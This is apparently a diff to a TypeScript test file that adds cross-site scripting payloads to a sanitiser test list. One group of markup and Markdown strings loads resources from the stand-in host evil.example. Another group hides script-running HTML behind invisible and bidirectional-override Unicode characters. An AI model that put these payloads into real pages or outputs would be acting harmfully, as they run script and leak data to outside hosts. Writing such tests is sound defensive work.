@@ -223,6 +223,34 @@ const mutations: readonly string[] = [
   `<button popovertarget=x>x</button><b popover id=x onbeforetoggle=${RUN}>`,
 ];
 
+/** Text that loads something from another host if a page treats it as markup or Markdown. */
+const beacons: readonly string[] = [
+  "<img src=https://evil.example/x.png>",
+  "<svg><image href=https://evil.example/x.svg></svg>",
+  "<link rel=stylesheet href=https://evil.example/x.css>",
+  "<link rel=dns-prefetch href=//evil.example>",
+  "<iframe src=https://evil.example></iframe>",
+  "<div style='background:url(https://evil.example/x.png)'>x</div>",
+  "<style>@import url(https://evil.example/x.css);</style>",
+  "<video poster=https://evil.example/x.png></video>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+  "![x](https://evil.example/x.png)",
+  "![x][1]\n\n[1]: https://evil.example/x.png",
+  "<script>alert(1)</script><script>print()</script>",
+];
+
+/** Characters that are invisible, or that reorder or stack the text around them. */
+const invisible: readonly string[] = [
+  `\u202e<img src=x onerror=${RUN}>\u202c`,
+  `\u2066admin\u2069 <img src=x onerror=${RUN}>`,
+  `<\u200bimg src=x onerror=${RUN}>`,
+  `<img\u2060 src=x onerror=${RUN}>`,
+  `java\u200dscript:${RUN}`,
+  `\ufeff<svg onload=${RUN}>`,
+  `\u00ad<svg onload=${RUN}>`,
+  `a\u0300\u0301\u0302\u0303<svg onload=${RUN}>`,
+];
+
 /** Strings that run as code if a page treats them as markup, a URL, a template, or a script. */
 export const payloads: readonly string[] = [
   ...handlers,
@@ -231,4 +259,6 @@ export const payloads: readonly string[] = [
   ...addresses,
   ...templates,
   ...mutations,
+  ...beacons,
+  ...invisible,
 ].filter((payload) => payload.length <= LONGEST);
